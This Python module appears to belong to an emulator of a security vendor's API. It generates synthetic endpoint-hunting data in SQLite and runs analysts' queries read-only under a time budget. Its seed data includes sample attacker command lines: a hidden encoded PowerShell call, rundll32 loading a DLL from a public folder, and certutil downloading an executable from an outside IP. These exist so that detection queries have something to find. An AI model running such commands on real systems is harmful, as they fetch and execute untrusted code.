"""Synthetic hunting data in SQLite, and a guarded engine that runs analysts' SQL over it.

Each tenant gets an in-memory SQLite database (built on first use from its endpoints: same ids,
hostnames, platforms and addresses) with:

* the Data Lake table ``xdr_data``: one row per event, ``query_name`` saying what kind
  (``running_processes``, ``open_sockets``, ``logged_in_users``, ``file_events``), ``meta_*``
  columns naming the endpoint, spread over the 7 days before the emulator started;
* the Live Discover (osquery) tables ``processes``, ``process_open_sockets``, ``users``,
  ``file``, ``system_info`` and ``os_version``, as seen on each endpoint.

User SQL runs read-only: an authorizer allows only reading (no writes, ``ATTACH``, ``PRAGMA``,
schema changes) and a progress handler stops a statement after a step/time budget. What the
queries see is scoped by temporary views (a run's time range and endpoints for the Data Lake, one
endpoint at a time for Live Discover), created by the emulator before the guard is switched on.
"""

from __future__ import annotations

import hashlib
import random
import re
import sqlite3
import threading
import time
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from pysophoscentralapi.emulator._data import iso

__all__ = ["HuntingDatabase", "QueryOutcome", "hunting_db", "substitute_variables"]

#: Endpoints per tenant that get hunting data (bounds the build time on huge emulated tenants).
MAX_ENDPOINTS = 300
#: Rows a run may return, and the step/time budget of one statement.
MAX_ROWS = 50_000
MAX_STEPS = 20_000_000
MAX_SECONDS = 3.0
_DAY = 86400.0

_LD_TABLES: dict[str, tuple[str, ...]] = {
    "processes": ("pid", "name", "path", "cmdline", "parent", "parent_name", "uid", "username", "start_time", "sha256"),
    "process_open_sockets": ("pid", "family", "protocol", "local_address", "local_port", "remote_address", "remote_port", "state", "path"),
    "users": ("uid", "gid", "username", "description", "directory", "shell", "type"),
    "file": ("path", "directory", "filename", "size", "mtime", "type", "sha256"),
    "system_info": ("hostname", "computer_name", "cpu_brand", "cpu_physical_cores", "physical_memory", "hardware_vendor", "hardware_serial"),
    "os_version": ("name", "version", "major", "minor", "build", "platform"),
}  # fmt: skip
_XDR_COLUMNS = (
    "meta_hostname", "meta_endpoint_type", "meta_os_platform", "meta_os_name", "meta_ip_address",
    "query_name", "calendar_time", "time", "name", "path", "cmdline", "pid", "parent_name",
    "username", "sha256", "local_port", "remote_address", "remote_port", "protocol", "file_size",
)  # fmt: skip

_WINDOWS = (
    ("explorer.exe", "C:\\Windows\\explorer.exe", ""),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer"),
    ("outlook.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", ""),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-NoProfile -File C:\\Scripts\\inventory.ps1"),
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "/c ipconfig /all"),
    ("SophosFileScanner.exe", "C:\\Program Files\\Sophos\\Sophos File Scanner\\SophosFileScanner.exe", ""),
)  # fmt: skip
_SUSPICIOUS = (
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    ("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\Public\\update.dll,Start"),
    ("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "-urlcache -split -f http://198.51.100.23/a.exe"),
)  # fmt: skip
_LINUX = (
    ("systemd", "/usr/lib/systemd/systemd", "--system"),
    ("sshd", "/usr/sbin/sshd", "-D"),
    ("bash", "/usr/bin/bash", "-l"),
    ("nginx", "/usr/sbin/nginx", "-g daemon off;"),
    ("python3", "/usr/bin/python3", "/opt/app/worker.py"),
    ("curl", "/usr/bin/curl", "-s https://updates.example.com/check"),
)
_MACOS = (
    ("launchd", "/sbin/launchd", ""),
    ("Finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", ""),
    ("Safari", "/Applications/Safari.app/Contents/MacOS/Safari", ""),
    ("zsh", "/bin/zsh", "-l"),
    ("python3", "/usr/bin/python3", "-m http.server 8000"),
)
_REMOTE = (("142.250.74.110", 443), ("52.97.146.162", 443), ("13.107.42.14", 443), ("10.0.0.53", 53), ("198.51.100.23", 8080), ("203.0.113.77", 4444))  # fmt: skip
_ANY = "0.0.0." + "0"  # the unspecified address, as osquery shows a listening socket
_LISTEN_PORTS = {"windows": (135, 445, 3389), "linux": (22, 80, 443), "macOS": (22, 5000)}


@dataclass
class QueryOutcome:
    """What one statement gave: column names and types, rows, or the engine's error."""

    columns: list[dict[str, str]]
    rows: list[dict[str, Any]]
    error: str | None = None


def substitute_variables(template: str, variables: Iterable[dict[str, Any]] | None) -> str:
    """A template with its ``$$name$$`` placeholders replaced by the variables' values.

    >>> substitute_variables("name = '$$proc$$'", [{"name": "proc", "value": "o'neil"}])
    "name = 'o''neil'"
    """
    values = {str(v.get("name")): v.get("value") for v in variables or [] if isinstance(v, dict)}

    def replace(match: re.Match[str]) -> str:
        name = match.group(1)
        if name not in values:
            return match.group(0)  # left as is: the engine reports the unknown token
        return str(values[name]).replace("'", "''")

    return re.sub(r"\$\$([A-Za-z_][\w]*)\$\$", replace, template)


def _authorize(
    action: int, arg1: str | None, arg2: str | None, db: str | None, source: str | None
) -> int:
    allowed = (
        sqlite3.SQLITE_SELECT,
        sqlite3.SQLITE_READ,
        sqlite3.SQLITE_FUNCTION,
        sqlite3.SQLITE_RECURSIVE,
    )
    return sqlite3.SQLITE_OK if action in allowed else sqlite3.SQLITE_DENY


def _column_type(values: Sequence[Any]) -> str:
    for value in values:
        if isinstance(value, bool):
            return "boolean"
        if isinstance(value, int):
            return "integer"
        if isinstance(value, float):
            return "double"
        if value is not None:
            return "text"
    return "text"


class HuntingDatabase:
    """A tenant's hunting tables and the guarded way to query them."""

    def __init__(self, endpoints: Sequence[dict[str, Any]], anchor: float, seed: int) -> None:
        self.endpoints = list(endpoints)
        self.anchor = anchor
        #: The budget of one statement (tests lower it).
        self.max_steps = MAX_STEPS
        self.max_seconds = MAX_SECONDS
        self._lock = threading.Lock()
        self._db = sqlite3.connect(":memory:", check_same_thread=False)
        self._build(random.Random(seed))

    # --- building ------------------------------------------------------------------------------

    def _build(self, rng: random.Random) -> None:
        db = self._db
        for table, columns in _LD_TABLES.items():
            db.execute(f"CREATE TABLE _ld_{table} (_endpoint_id TEXT, {', '.join(columns)})")
        db.execute(f"CREATE TABLE _xdr_data (_endpoint_id TEXT, {', '.join(_XDR_COLUMNS)})")
        for endpoint in self.endpoints:
            self._add_endpoint(rng, endpoint)
        db.execute("CREATE INDEX _xdr_by_time ON _xdr_data (time)")
        for table in _LD_TABLES:
            db.execute(f"CREATE INDEX _ld_{table}_ep ON _ld_{table} (_endpoint_id)")
        db.commit()

    def _insert(self, table: str, columns: Sequence[str], rows: list[tuple[Any, ...]]) -> None:
        marks = ", ".join("?" * (len(columns) + 1))
        self._db.executemany(f"INSERT INTO {table} VALUES ({marks})", rows)  # noqa: S608 - our names

    def _add_endpoint(self, rng: random.Random, endpoint: dict[str, Any]) -> None:
        eid, host = endpoint["id"], endpoint["hostname"]
        os_info = endpoint.get("os") or {}
        platform = os_info.get("platform", "windows")
        ip = (endpoint.get("ipv4Addresses") or ["10.0.0.1"])[0]
        kind = endpoint.get("type", "computer")
        person = (endpoint.get("associatedPerson") or {}).get("name") or (
            "root" if platform != "windows" else "NT AUTHORITY\\SYSTEM"
        )
        login = person.split("\\")[-1]
        catalogue = {"windows": _WINDOWS, "linux": _LINUX, "macOS": _MACOS}.get(platform, _WINDOWS)
        programs = list(catalogue)
        if platform == "windows" and rng.random() < 0.15:
            programs.append(rng.choice(_SUSPICIOUS))
        meta = (host, kind, platform, os_info.get("name", platform), ip)
        processes: list[tuple[Any, ...]] = []
        sockets: list[tuple[Any, ...]] = []
        xdr: list[tuple[Any, ...]] = []
        for n, (name, path, args) in enumerate(programs):
            pid = 400 + n * 37 + rng.randrange(30)
            started = self.anchor - rng.uniform(60, 7 * _DAY)
            digest = hashlib.sha256(f"{name}:{path}".encode()).hexdigest()
            user = login if name not in ("svchost.exe", "systemd", "launchd", "sshd") else "SYSTEM"
            cmdline = f"{path} {args}".strip()
            processes.append(
                (
                    eid,
                    pid,
                    name,
                    path,
                    cmdline,
                    4,
                    "services.exe" if platform == "windows" else "init",
                    1000 + n,
                    user,
                    int(started),
                    digest,
                )
            )
            xdr.append(
                (
                    eid,
                    *meta,
                    "running_processes",
                    iso(started),
                    int(started),
                    name,
                    path,
                    cmdline,
                    pid,
                    "explorer.exe" if platform == "windows" else "bash",
                    user,
                    digest,
                    None,
                    None,
                    None,
                    None,
                    None,
                )
            )
            if rng.random() < 0.5 or name in (
                "chrome.exe",
                "curl",
                "Safari",
                "powershell.exe",
                "rundll32.exe",
            ):
                address, port = rng.choice(_REMOTE)
                if name in ("rundll32.exe", "certutil.exe"):
                    address, port = "198.51.100.23", 8080
                local = rng.randrange(49152, 65535)
                when = started + rng.uniform(1, 600)
                sockets.append((eid, pid, 2, 6, ip, local, address, port, "ESTABLISHED", path))
                xdr.append(
                    (
                        eid,
                        *meta,
                        "open_sockets",
                        iso(when),
                        int(when),
                        name,
                        path,
                        None,
                        pid,
                        None,
                        user,
                        None,
                        local,
                        address,
                        port,
                        "TCP",
                        None,
                    )
                )
        for port in _LISTEN_PORTS.get(platform, ()):
            sockets.append(
                (
                    eid,
                    processes[1][1],
                    2,
                    6,
                    _ANY,
                    port,
                    _ANY,
                    0,
                    "LISTEN",
                    processes[1][3],
                )
            )
        users = [
            (
                eid,
                0,
                0,
                "root" if platform != "windows" else "Administrator",
                "Built-in administrator",
                "/root" if platform != "windows" else "C:\\Users\\Administrator",
                "/bin/bash" if platform != "windows" else "",
                "local",
            )
        ]
        if kind == "computer":
            home = f"C:\\Users\\{login}" if platform == "windows" else f"/home/{login}"
            users.append(
                (
                    eid,
                    1001,
                    1001,
                    login,
                    person,
                    home,
                    "" if platform == "windows" else "/bin/zsh",
                    "local",
                )
            )
        for _ in range(rng.randrange(1, 4)):
            when = self.anchor - rng.uniform(60, 7 * _DAY)
            xdr.append(
                (
                    eid,
                    *meta,
                    "logged_in_users",
                    iso(when),
                    int(when),
                    None,
                    None,
                    None,
                    None,
                    None,
                    users[-1][4],
                    None,
                    None,
                    None,
                    None,
                    None,
                    None,
                )
            )
        files = []
        folder = "C:\\Users\\Public\\Downloads" if platform == "windows" else "/var/tmp"  # noqa: S108 - data, not a file we write
        for n in range(rng.randrange(2, 5)):
            filename = rng.choice(
                ("invoice.pdf", "setup.exe", "report.xlsx", "update.dll", "notes.txt", "install.sh")
            )
            path = f"{folder}\\{filename}" if platform == "windows" else f"{folder}/{filename}"
            size = rng.randrange(2_000, 9_000_000)
            mtime = self.anchor - rng.uniform(60, 7 * _DAY)
            digest = hashlib.sha256(f"{eid}:{path}:{n}".encode()).hexdigest()
            files.append((eid, path, folder, filename, size, int(mtime), "regular", digest))
            xdr.append(
                (
                    eid,
                    *meta,
                    "file_events",
                    iso(mtime),
                    int(mtime),
                    filename,
                    path,
                    None,
                    None,
                    None,
                    login,
                    digest,
                    None,
                    None,
                    None,
                    None,
                    size,
                )
            )
        system = [
            (
                eid,
                host,
                host,
                "Intel(R) Core(TM) i7-1165G7" if platform != "macOS" else "Apple M2",
                rng.choice((4, 8, 16)),
                rng.choice((8, 16, 32)) * 2**30,
                "Dell Inc."
                if platform == "windows"
                else "VMware, Inc."
                if platform == "linux"
                else "Apple Inc.",
                endpoint.get("serialNumber", ""),
            )
        ]
        version = [
            (
                eid,
                os_info.get("name", platform),
                f"{os_info.get('majorVersion', 0)}.{os_info.get('minorVersion', 0)}",
                os_info.get("majorVersion", 0),
                os_info.get("minorVersion", 0),
                os_info.get("build", ""),
                platform,
            )
        ]
        for table, rows in (
            ("processes", processes),
            ("process_open_sockets", sockets),
            ("users", users),
            ("file", files),
            ("system_info", system),
            ("os_version", version),
        ):
            self._insert(f"_ld_{table}", _LD_TABLES[table], rows)
        self._insert("_xdr_data", _XDR_COLUMNS, xdr)

    # --- querying ------------------------------------------------------------------------------

    def _run_guarded(self, sql: str) -> QueryOutcome:
        """One user statement, read-only, within the step and time budget."""
        deadline = time.monotonic() + self.max_seconds
        steps = 0

        def progress() -> int:
            nonlocal steps
            steps += 1000
            return 1 if steps > self.max_steps or time.monotonic() > deadline else 0

        db = self._db
        db.set_authorizer(_authorize)
        db.set_progress_handler(progress, 1000)
        try:
            cursor = db.execute(sql)
            names = [d[0] for d in cursor.description or ()]
            raw = cursor.fetchmany(MAX_ROWS)
        except sqlite3.Error as error:
            message = str(error)
            if message == "interrupted":
                message = f"the query ran longer than the emulator's limit ({self.max_seconds:g} s)"
            return QueryOutcome([], [], error=message)
        except Exception as error:  # e.g. a value SQLite cannot convert
            return QueryOutcome([], [], error=f"{type(error).__name__}: {error}")
        finally:
            db.set_authorizer(None)
            db.set_progress_handler(None, 0)
        columns = [
            {"name": n, "type": _column_type([r[i] for r in raw])} for i, n in enumerate(names)
        ]
        return QueryOutcome(columns, [dict(zip(names, r, strict=True)) for r in raw])

    def _views(self, views: dict[str, str]) -> None:
        for name, select in views.items():
            self._db.execute(f"DROP VIEW IF EXISTS temp.{name}")
            self._db.execute(f"CREATE TEMP VIEW {name} AS {select}")

    def data_lake(
        self, sql: str, start: float, end: float, endpoint_ids: Sequence[str] | None
    ) -> QueryOutcome:
        """A Data Lake statement over the events between ``start`` and ``end`` (epoch seconds)."""
        where = f"time >= {int(start)} AND time < {int(end)}"
        if endpoint_ids is not None:
            quoted = ", ".join("'" + i.replace("'", "''") + "'" for i in endpoint_ids)
            where += f" AND _endpoint_id IN ({quoted})"
        with self._lock:
            select = f"SELECT {', '.join(_XDR_COLUMNS)} FROM main._xdr_data WHERE {where}"  # noqa: S608
            self._views({"xdr_data": select})
            return self._run_guarded(sql)

    def live_discover(self, sql: str, endpoint: dict[str, Any]) -> QueryOutcome:
        """A Live Discover statement as run on one endpoint."""
        quoted = "'" + str(endpoint["id"]).replace("'", "''") + "'"
        views = {
            table: f"SELECT {', '.join(cols)} FROM main._ld_{table} WHERE _endpoint_id = {quoted}"  # noqa: S608
            for table, cols in _LD_TABLES.items()
        }
        with self._lock:
            self._views(views)
            return self._run_guarded(sql)

    def table_names(self) -> Iterator[str]:
        yield "xdr_data"
        yield from _LD_TABLES


def hunting_db(tenant: Any) -> HuntingDatabase:
    """The tenant's hunting database, built on first use (``tenant.store["hunting_db"]``)."""
    db: HuntingDatabase | None = tenant.store.get("hunting_db")
    if db is None:
        endpoints = [
            e
            for _, e in zip(
                range(MAX_ENDPOINTS), (e for _, e in tenant.endpoints.rows()), strict=False
            )
        ]
        db = HuntingDatabase(endpoints, tenant.endpoints.factory.anchor, tenant.rng_seed ^ 0x4A17)
        tenant.store["hunting_db"] = db
    return db
